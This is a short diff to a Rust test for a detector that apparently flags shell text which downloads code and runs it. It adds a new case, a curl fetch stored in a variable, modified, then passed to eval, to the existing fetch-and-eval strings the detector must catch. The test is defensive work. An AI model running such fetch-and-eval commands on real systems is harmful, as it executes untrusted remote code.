@@ -312,6 +312,7 @@ fn fetched_text_stays_fetched_in_variables_and_parameters() {
     for text in [
         format!("run() {{ \"$@\"; }}; run eval \"$(curl -s {u})\""),
         format!("f() {{ shift; eval \"$1\"; }}; f a \"$(curl -s {u})\""),
+        format!("v=$(curl -s {u}); v+=' x'; eval \"$v\""),
     ] {
         assert!(runs_fetched_code(&text), "{text}");
     }
